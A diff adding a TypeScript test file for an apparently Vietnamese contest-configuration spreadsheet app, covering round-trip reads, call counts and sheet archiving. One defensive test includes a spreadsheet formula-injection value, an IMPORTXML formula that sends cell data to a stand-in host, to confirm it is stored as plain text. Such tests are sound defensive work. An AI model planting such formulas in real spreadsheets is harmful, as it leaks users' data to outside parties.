@@ -1,0 +1,74 @@
+import { createEmulator } from '../emulator';
+import { readConfiguration, writeConfiguration } from '../../src/app/contest-configuration';
+import { presetById } from '../../src/core/config/presets';
+import { SpreadsheetWorkbook } from '../../src/workspace/spreadsheet-workbook';
+
+function setUp() {
+  const emu = createEmulator({ latency: 'off' });
+  const uninstall = emu.install();
+  const workbook = new SpreadsheetWorkbook(emu.activeSpreadsheet);
+  return { emu, uninstall, workbook };
+}
+
+describe('configuration sheets on the emulated spreadsheet', () => {
+  it('reads back exactly the configuration it wrote', () => {
+    const { uninstall, workbook } = setUp();
+    try {
+      const config = presetById('dakrong2020').build();
+      writeConfiguration(config, workbook, '(cũ)');
+      const read = readConfiguration(workbook);
+      expect(read.problems.filter((p) => p.severity === 'error')).toEqual([]);
+      expect(read.config).toEqual(config);
+    } finally {
+      uninstall();
+    }
+  });
+
+  it('keeps hostile text literal: a unit named like a formula is stored and read back as text', () => {
+    const { emu, uninstall, workbook } = setUp();
+    try {
+      const config = presetById('hauGiang2024').build();
+      const hostile = ['=IMPORTXML("http://x.example/?"&A1,"//a")', '+84912345678', '@SUM(A1)', '0912345678', '16/8/2024'];
+      hostile.forEach((name, i) => config.units.push({ code: `X${i}`, name }));
+      writeConfiguration(config, workbook, '(cũ)');
+      const sheet = emu.activeSpreadsheet.getSheetByName('Đơn vị')!;
+      expect(sheet.getDataRange().getFormulas().flat().filter((f) => f !== '')).toEqual([]);
+      expect(readConfiguration(workbook).config?.units.map((u) => u.name)).toEqual(config.units.map((u) => u.name));
+    } finally {
+      uninstall();
+    }
+  });
+
+  it('costs the same number of service calls whatever the number of units', () => {
+    const callsFor = (unitCount: number): number => {
+      const { emu, uninstall, workbook } = setUp();
+      try {
+        const config = presetById('hauGiang2024').build();
+        config.units = Array.from({ length: unitCount }, (_, i) => ({ code: `U${i}`, name: `Đơn vị số ${i + 1}` }));
+        emu.meter.reset();
+        writeConfiguration(config, workbook, '(cũ)');
+        readConfiguration(workbook);
+        return emu.meter.calls;
+      } finally {
+        uninstall();
+      }
+    };
+    // Past a new sheet's 1,000 rows the grid grows first: one more call, then no more.
+    expect(callsFor(5000)).toBe(callsFor(1500));
+    expect(callsFor(1500) - callsFor(10)).toBe(1);
+  });
+
+  it('setting up again archives the earlier sheets instead of overwriting them', () => {
+    const { emu, uninstall, workbook } = setUp();
+    try {
+      writeConfiguration(presetById('dakrong2020').build(), workbook, '(cũ 1)');
+      const result = writeConfiguration(presetById('tanAn2024').build(), workbook, '(cũ 2)');
+      expect(result.archived).toContain('Cấu hình (cũ 2)');
+      const old = emu.activeSpreadsheet.getSheetByName('Giải thưởng (cũ 2)')!.getDataRange().getValues();
+      expect(old.map((r) => r[1])).toContain('Giải Nhất');
+      expect(readConfiguration(workbook).config?.identity.code).toBe('TA2024');
+    } finally {
+      uninstall();
+    }
+  });
+});
